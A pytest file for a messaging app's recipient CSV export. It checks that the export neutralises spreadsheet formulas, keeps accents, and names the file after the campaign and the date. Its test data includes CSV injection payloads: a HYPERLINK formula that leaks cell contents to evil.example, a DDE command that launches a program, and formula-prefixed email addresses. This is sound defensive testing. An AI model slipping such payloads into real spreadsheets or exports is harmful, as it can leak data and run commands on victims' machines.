"""The recipients' CSV export: what a spreadsheet opens is text, never a formula; accents
survive; the file is named after the campaign and the day."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from urllib.parse import unquote
from zoneinfo import ZoneInfo

import pytest
from httpx import AsyncClient, Response
from sqlalchemy.ext.asyncio import AsyncSession

from tests.factories import create_customer
from tests.messaging.conftest import BASE, World, create_messaging_campaign

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]
# A name is trimmed; an address is written as it is on file.
HOSTILE_EMAILS = ["\t=1+1@example.com", "\r=1+1@example.com"]


@pytest.fixture
async def export(client: AsyncClient, world: World, session: AsyncSession) -> Response:
    customers = [
        await create_customer(session, first_name=name, last_name="", booked_at=[world.paris])
        for name in HOSTILE
    ] + [
        await create_customer(session, first_name="Tab", email=email, booked_at=[world.paris])
        for email in HOSTILE_EMAILS
    ]
    await session.commit()
    campaign = await create_messaging_campaign(client, world)
    await client.patch(
        f"{BASE}/{campaign['id']}",
        json={"name": "Soirée d'été / Noël\\2026"},
        headers=world.headers,
    )
    added = await client.post(
        f"{BASE}/{campaign['id']}/recipients",
        json={"user_ids": [c.id for c in customers] + [world.alice.id]},
        headers=world.headers,
    )
    assert added.status_code == 200, added.text
    response = await client.get(
        f"{BASE}/{campaign['id']}/recipients/export.csv",
        params={"channel": "email"},
        headers=world.headers,
    )
    assert response.status_code == 200, response.text
    return response


class TestCsvExport:
    async def test_it_is_utf8_with_a_byte_order_mark(self, export: Response) -> None:
        assert export.content.startswith(b"\xef\xbb\xbfrecipient_id,")
        assert export.content.count(b"\xef\xbb\xbf") == 1

    async def test_cells_a_spreadsheet_would_run_are_text(self, export: Response) -> None:
        text = export.content.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        names = sorted(r["name"] for r in rows if not r["name"].startswith("Tab"))
        assert names == sorted(["Alice Arnaud", *(f"'{name}" for name in HOSTILE)])
        emails = sorted(r["email"] for r in rows if r["name"].startswith("Tab"))
        assert emails == sorted(f"'{email}" for email in HOSTILE_EMAILS)
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row

    async def test_the_file_is_named_after_the_campaign_and_the_day(self, export: Response) -> None:
        day = datetime.now(UTC).astimezone(ZoneInfo("Europe/Paris")).date().isoformat()
        disposition = export.headers["content-disposition"]
        fallback = f"Soiree-d-ete-Noel-2026-recipients-{day}.csv"
        assert disposition.startswith(f"attachment; filename=\"{fallback}\"; filename*=UTF-8''")
        encoded = disposition.split("filename*=UTF-8''", 1)[1]
        assert encoded.isascii()
        assert "/" not in encoded
        assert unquote(encoded) == f"Soirée d'été - Noël - 2026 - recipients {day}.csv"


async def test_a_campaign_named_only_with_symbols_still_gets_a_name(
    client: AsyncClient, world: World
) -> None:
    campaign = await create_messaging_campaign(client, world)
    await client.patch(f"{BASE}/{campaign['id']}", json={"name": "«»"}, headers=world.headers)
    response = await client.get(
        f"{BASE}/{campaign['id']}/recipients/export.csv", headers=world.headers
    )
    disposition = response.headers["content-disposition"]
    assert f'filename="campaign-{campaign["id"]}-recipients-' in disposition
